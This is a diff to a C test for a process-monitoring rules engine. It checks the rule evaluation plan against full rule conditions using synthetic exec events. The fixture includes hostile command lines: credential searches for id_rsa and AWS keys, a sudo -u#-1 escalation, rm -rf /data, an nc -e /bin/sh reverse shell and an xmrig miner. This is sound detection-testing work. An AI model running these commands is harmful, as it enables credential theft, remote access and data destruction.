@@ -46,6 +46,7 @@ static bool is_allowed(const char *f)
 
 struct tally {
 	unsigned a_loaded, a_skipped, b_skipped, bad;
+	unsigned execs, alerts; /* the plan's check */
 };
 
 static struct rules *load_file(const char *dir, const char *file, struct tally *t)
@@ -134,6 +135,96 @@ static void check_row(struct rules *rs, const char *file, const char *name, cons
 	       name, r->why ? ": " : "", r->why ? r->why : "");
 }
 
+/* ---- the evaluation plan against each rule's whole condition ---- */
+
+struct agree {
+	struct rules *rs;
+	struct pt_monitor *m;
+	struct tally *t;
+	const char *file;
+};
+
+static void on_alert(const struct rules_alert *al, void *data)
+{
+	const struct agree *a = data;
+
+	printf("alert        %-28s %-8s %s\n", a->file, pt_proc_comm(al->ev->proc), al->rule);
+}
+
+static void on_event(const struct pt_event *ev, void *data)
+{
+	struct agree *a = data;
+	unsigned whole = 0, plan;
+
+	if (ev->type != PT_EV_EXEC)
+		return;
+	for (size_t i = 0; i < a->rs->nrun; i++)
+		whole += pt_cond_match(a->rs->run[i]->c, a->m, ev->proc, ev);
+	plan = rules_eval(a->rs, a->m, ev, on_alert, a);
+	a->t->execs++;
+	a->t->alerts += plan;
+	if (plan != whole) {
+		printf("FAIL %s: exec of %s: %u rules match, the plan says %u\n", a->file,
+		       pt_proc_comm(ev->proc), whole, plan);
+		a->t->bad++;
+	}
+}
+
+/* Execs the stock process rules describe, and harmless ones. */
+static const struct {
+	int pid, ppid;
+	const char *comm, *exe, *argv;
+	unsigned uid, euid;
+} execs[] = {
+	{100, 1, "sshd", "/usr/sbin/sshd", "[\"sshd\",\"-D\"]", 0, 0},
+	{200, 100, "bash", "/usr/bin/bash", "[\"-bash\"]", 0, 0},
+	{300, 200, "find", "/usr/bin/find", "[\"find\",\"/\",\"-name\",\"id_rsa\"]", 0, 0},
+	{301, 200, "grep", "/usr/bin/grep", "[\"grep\",\"-r\",\"aws_secret_access_key\",\"/\"]", 0,
+	 0},
+	{302, 200, "x", "/dev/shm/x", "[\"/dev/shm/x\"]", 0, 0},
+	{303, 200, "ls", "/usr/bin/ls", "[\"ls\",\"-l\"]", 1000, 1000},
+	{304, 200, "sudo", "/usr/bin/sudo", "[\"sudo\",\"-u#-1\",\"/bin/bash\"]", 1000, 0},
+	{305, 200, "rm", "/usr/bin/rm", "[\"rm\",\"-rf\",\"/data\"]", 0, 0},
+	{400, 1, "nginx", "/usr/sbin/nginx", "[\"nginx\"]", 33, 33},
+	{401, 400, "sh", "/bin/sh", "[\"sh\",\"-c\",\"id\"]", 33, 33},
+	{402, 401, "nc", "/usr/bin/nc", "[\"nc\",\"-e\",\"/bin/sh\",\"10.0.0.1\",\"4444\"]", 33,
+	 33},
+	{403, 401, "xmrig", "/tmp/xmrig", "[\"xmrig\",\"-o\",\"stratum+tcp://pool:3333\"]", 33, 33},
+};
+
+static void check_plan(struct rules *rs, const char *file, struct tally *t)
+{
+	struct agree a = {.rs = rs, .t = t, .file = file};
+	struct pt_options o;
+	char line[1024], why[256];
+
+	pt_options_init(&o);
+	o.flags = PT_OPEN_EMPTY;
+	o.proc_root = "/nonexistent-proc-root";
+	if (pt_monitor_open(&a.m, &o) < 0 || pt_monitor_subscribe(a.m, on_event, &a) < 0) {
+		printf("FAIL: an empty monitor\n");
+		t->bad++;
+		return;
+	}
+	for (size_t i = 0; i < sizeof(execs) / sizeof(execs[0]); i++) {
+		int n = snprintf(line, sizeof(line),
+				 "{\"event\":\"exec\",\"time\":\"2026-12-03T08:01:02.123456Z\","
+				 "\"pid\":%d,\"tid\":%d,\"ppid\":%d,\"start\":%d,\"comm\":\"%s\","
+				 "\"exe\":\"%s\",\"argv\":%s,\"argv_truncated\":false,\"uid\":%u,"
+				 "\"euid\":%u,\"gid\":0,\"egid\":0,\"container_id\":\"host\","
+				 "\"tier\":\"netlink\"}",
+				 execs[i].pid, execs[i].pid, execs[i].ppid, execs[i].pid,
+				 execs[i].comm, execs[i].exe, execs[i].argv, execs[i].uid,
+				 execs[i].euid);
+
+		if (pt_import_event(a.m, line, (size_t)n, why, sizeof(why)) < 0) {
+			printf("FAIL: import: %s: %s\n", why, line);
+			t->bad++;
+		}
+	}
+	pt_monitor_close(a.m);
+}
+
 int main(int argc, char **argv)
 {
 	const char *top = getenv("top_srcdir");
@@ -165,6 +256,8 @@ int main(int argc, char **argv)
 		if (n < 4 || strcmp(cols[0], "file") == 0)
 			continue;
 		if (strcmp(cols[0], cur) != 0) {
+			if (rs)
+				check_plan(rs, cur, &t);
 			rules_free(rs);
 			snprintf(cur, sizeof(cur), "%s", cols[0]);
 			rs = load_file(dir, cur, &t);
@@ -172,9 +265,11 @@ int main(int argc, char **argv)
 		check_row(rs, cur, cols[1], cols[3], &t);
 	}
 	fclose(f);
+	if (rs)
+		check_plan(rs, cur, &t);
 	rules_free(rs);
 	printf("class a: %u loaded, %u skipped for an allowed field; class b and mixed: %u "
-	       "skipped; %u failures\n",
-	       t.a_loaded, t.a_skipped, t.b_skipped, t.bad);
+	       "skipped; the plan agreed on %u execs (%u alerts); %u failures\n",
+	       t.a_loaded, t.a_skipped, t.b_skipped, t.execs, t.alerts, t.bad);
 	return t.bad ? 1 : 0;
 }
